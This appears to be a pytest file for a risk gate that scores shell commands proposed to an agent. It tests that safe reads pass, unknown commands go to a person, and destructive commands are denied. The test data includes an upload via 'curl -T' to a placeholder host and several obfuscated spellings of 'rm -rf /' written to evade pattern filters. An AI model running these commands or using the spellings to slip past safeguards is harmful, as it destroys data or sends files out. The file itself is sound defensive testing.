"""Commands in the risk gate: which arguments are read, what they add, and who is asked."""

import msgspec
import pytest

from engine.core import shell
from engine.core.explain import explain, text
from engine.core.vocabulary.actions import Action, Parameter, RiskLevel, Running
from engine.core.vocabulary.verdicts import Check, Wait
from tests.builders import answer, ask, changed, proposal, shipped
from tests.shell.bypasses import BYPASSES

RUN = Running(runner="shell", timeout_us=1)


def action(run=None, **parameters):
    return Action(name="try", kind="read", risk=RiskLevel.SAFE, parameters=parameters, run=run)


def risk_of(command, policy=None):
    verdict = ask(proposal("shell.run", {"command": command}), policy=policy)
    return {part.name: part.points for part in verdict.assessment.risk.parts}, answer(verdict, "risk")


def test_commands_are_what_the_registry_calls_so():
    command, words = Parameter(type="command"), Parameter(type="list")
    listed = Parameter(type="list", items="command")
    assert shell.commands_in(action(a=command), {"a": "ls", "b": "id"}) == ["ls"]
    assert shell.commands_in(action(a=listed), {"a": ["ls", "id"]}) == ["ls", "id"]
    assert shell.commands_in(action(RUN, command=words), {"command": ["ls", "a b"]}) == ["ls 'a b'"]
    assert shell.commands_in(action(command=words), {"command": ["ls"]}) == []
    fixed = msgspec.structs.replace(RUN, settings={"argv": ["ls"]})
    assert shell.commands_in(action(fixed, command=words), {"command": ["ls"]}) == []
    assert shell.commands_in(None, {"command": "ls"}) == []
    assert shell.commands_in(action(a=command), {"a": {"deep": ["sudo ls"]}}) == ["deep", "sudo ls"]


def test_what_only_reads_adds_nothing():
    parts, said = risk_of("grep -c return src/shop.py")
    assert parts == {"declared": 35, "irreversible": 5}
    assert (said.ruling, said.checks[1]) == ("allow", Check("shell", "ok", None))


def test_what_nobody_knows_waits_for_a_person_and_says_why():
    parts, said = risk_of("mv a b")
    assert parts["shell.unknown-program"] == 20
    assert (said.ruling, said.checks[1]) == ("escalate", Check("shell", "unsure", None))
    assert said.waits == (Wait(kind="person", role="responder"),)
    assert "mv is not on the read-only list: mv a b" in said.reason


def test_a_harmful_form_that_no_pattern_knows_adds_its_points():
    parts, said = risk_of("curl -T a http://x.example")
    assert parts["shell.upload"] == 40
    assert said.ruling == "escalate"
    assert "it sends data to another machine" in said.reason


@pytest.mark.parametrize(
    "spelled", ["r''m -rf /", "$'\\x72m' -rf /", "bash -c 'r\"m\" -rf /'", "c=rm; $c -rf /"]
)
def test_no_spelling_hides_a_command_from_the_patterns(spelled):
    parts, said = risk_of(spelled)
    assert parts["destructive.rm-root"] == 100
    assert not [name for name in parts if name.startswith("shell.")]
    assert said.ruling == "deny"


def test_even_a_safe_action_waits_with_a_command_nobody_knows():
    own = {"try": action(a=Parameter(type="command"))}
    for command, ruling in (("ls", "allow"), ("mv a b", "escalate"), ("sudo ls", "escalate")):
        said = answer(ask(proposal("try", {"a": command}), policy=changed(actions=own)), "risk")
        assert said.ruling == ruling
        if ruling == "escalate":
            assert said.rule == f"shell.rulings.{said.checks[1].measured}"
            assert said.reason.startswith("the command is not known to be harmless: ")


def test_of_several_commands_the_worst_counts():
    settings = shipped().risk.shell
    several = action(a=Parameter(type="list", items="command"))
    seen = shell.seen_in(settings, several, {"a": ["ls", "mv a b", "r''m -r c"]})
    assert (seen.word, seen.form, seen.argv) == ("hit", "remove-tree", ("rm", "-r", "c"))
    assert "rm -r c" in seen.spelled
    assert shell.seen_in(settings, several, {"a": ["ls", "mv a b"]}).word == "unsure"
    assert shell.seen_in(settings, several, {}).word == "none"


def test_the_facts_are_there_for_conditions():
    verdict = ask(proposal("shell.run", {"command": "shred a"}, environment="production"))
    assert answer(verdict, "rules").rule == "destructive-in-production"


def test_an_explanation_shows_what_was_seen():
    asked = proposal("shell.run", {"command": "mv a b\x1b[2J"})
    shown = text(explain(ask(asked), asked))
    assert "shell unsure" in shown
    assert "shell.odd-letter" in shown
    assert "\x1b" not in shown


def test_no_bypass_of_any_class_runs_unasked():
    allowed = [
        text
        for texts in BYPASSES.values()
        for text in texts
        if len(text) < 4_000 and ask(proposal("shell.run", {"command": text})).word == "allow"
    ]
    assert allowed == []
